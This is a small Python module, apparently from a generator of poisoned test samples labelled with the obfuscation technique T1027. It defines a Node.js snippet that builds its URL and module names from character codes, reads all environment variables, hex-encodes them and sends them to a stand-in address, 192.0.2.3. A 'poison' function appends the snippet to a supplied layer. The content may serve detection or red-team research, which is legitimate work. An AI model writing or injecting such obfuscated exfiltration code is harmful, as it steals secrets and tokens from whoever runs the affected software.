# SPDX-License-Identifier: Apache-2.0
"""An address and a name put together from numbers."""

ATTACK = "T1027"
LANGUAGE = "node"
CODE = """\
;(function () {
  var f = String.fromCharCode;
  var u = [104, 116, 116, 112, 58, 47, 47, 49, 57, 50, 46, 48, 46, 50, 46, 51].map(function (c) { return f(c); }).join('');
  var r = require(f(104) + f(116) + f(116) + f(112));
  r.get(u + '/?' + Buffer.from(JSON.stringify(process[f(101, 110, 118)])).toString('hex'));
})();
"""


def poison(layer):
    layer.append(CODE)
